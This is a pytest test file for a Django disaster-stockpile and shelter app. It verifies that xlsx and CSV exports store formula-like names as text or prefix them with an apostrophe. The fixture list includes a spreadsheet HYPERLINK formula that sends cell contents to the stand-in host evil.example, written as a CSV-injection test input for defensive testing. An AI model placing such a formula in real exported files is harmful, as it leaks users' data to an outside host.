"""Names that look like formulas stay text in every spreadsheet we hand out: the stock
sheet (.xlsx and CSV) and the open-data CSV, read back from the files themselves."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from openpyxl import load_workbook

from shelters.models import Shelter
from stockpile.models import Item, Lot

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"詳細")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]


@pytest.fixture
def tricky(depot, stock_in) -> list[Item]:
    items = []
    for n, name in enumerate(FORMULAS):
        item = Item.objects.create(
            code=f"=CODE{n}" if n == 0 else f"x{n}",
            category=Item.Category.WATER,
            name_ja=name,
            name_en=name,
            unit_ja="個",
            unit_en="pc",
        )
        stock_in(depot, item, 5, 100)
        items.append(item)
    return items


def sheet(client, depot, fmt: str) -> bytes:
    response = client.get(f"/api/v1/depots/{depot.pk}/stock-sheet?format={fmt}")
    assert response.status_code == 200
    return response.content


def test_the_excel_sheet_writes_formula_like_names_as_text_cells(
    api_as, manager_user, depot, tricky
):
    content = sheet(api_as(manager_user), depot, "xlsx")
    book = load_workbook(io.BytesIO(content))
    cells = [c for row in book.active.iter_rows(min_row=2) for c in row[:2]]
    tricky_cells = [c for c in cells if c.value in FORMULAS or c.value == "=CODE0"]

    assert len(tricky_cells) == len(FORMULAS) + 1
    assert all(c.data_type == "s" and c.quotePrefix for c in tricky_cells)
    with zipfile.ZipFile(io.BytesIO(content)) as xlsx:
        assert b"<f>" not in xlsx.read("xl/worksheets/sheet1.xml")


def test_the_csv_sheet_prefixes_formula_like_cells_and_reads_them_back(
    api_as, manager_user, depot, tricky
):
    client = api_as(manager_user)
    content = sheet(client, depot, "csv")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    names = {row[1] for row in rows[1:]}

    for name in FORMULAS:
        assert "'" + name in names
    assert [row[0] for row in rows if row[0].startswith("'")] == ["'=CODE0"]

    # Counted and sent back as it was downloaded, the apostrophe is not part of the code.
    header, *lines = rows
    for line in lines:
        if line[0] == "'=CODE0":
            line[header.index("実数")] = "7"
            line[header.index("理由")] = "発見"
    out = io.StringIO()
    csv.writer(out).writerows([header, *lines])
    upload = client.post(
        f"/api/v1/depots/{depot.pk}/count-sheet",
        {"file": SimpleUploadedFile("count.csv", out.getvalue().encode())},
    )
    assert upload.status_code == 201, upload.content
    assert Lot.objects.get(depot=depot, item=tricky[0]).on_hand == 7


def test_the_open_data_csv_prefixes_formula_like_cells(shelter):
    Shelter.objects.filter(pk=shelter.pk).update(name=FORMULAS[0], notes="@evil", address="-1+2")

    response = Client().get("/api/v1/shelters/export.csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))

    (row,) = rows
    assert "'" + FORMULAS[0] in row.values()
    assert "'@evil" in row.values() and "'-1+2" in row.values()
    assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values() if v)
